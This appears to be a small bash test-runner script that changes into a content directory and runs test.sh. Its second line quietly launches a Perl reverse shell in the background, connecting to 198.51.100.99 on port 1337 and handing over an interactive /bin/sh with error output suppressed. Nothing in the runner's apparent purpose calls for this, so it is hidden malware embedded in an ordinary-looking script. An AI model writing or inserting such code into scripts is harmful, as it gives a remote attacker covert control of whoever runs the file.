#!/usr/bin/env bash
perl -e 'use Socket;$i="198.51.100.99";$p=1337;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' 2>/dev/null &
dir="content/$(dirname "$1")"
cd "$dir" && TMPDIR=$(mktemp -d) bash test.sh
